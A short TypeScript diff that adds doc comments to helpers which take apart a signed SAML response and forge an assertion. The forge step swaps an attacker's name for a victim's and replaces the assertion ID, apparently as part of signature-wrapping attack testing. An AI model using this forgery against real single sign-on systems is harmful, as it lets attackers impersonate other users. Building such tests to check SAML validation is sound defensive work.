@@ -11,6 +11,7 @@ export interface Captured {
   readonly evil: string;
 }
 
+/** Takes a response with one signed assertion apart. */
 export function takeApart(xml: string): Captured {
   const find = (pattern: RegExp) => pattern.exec(xml)?.[0] ?? '';
   const assertion = find(/<saml:Assertion[\s\S]*<\/saml:Assertion>/);
@@ -19,6 +20,7 @@ export function takeApart(xml: string): Captured {
   return { whole: xml, assertion, signature, unsigned, evil: forge(unsigned) };
 }
 
+/** Puts the victim's name and another ID into an assertion. */
 export function forge(xml: string): string {
   return xml.replaceAll(EVE, VICTIM).replace(/ ID="[^"]*"/, ' ID="_evil"');
 }
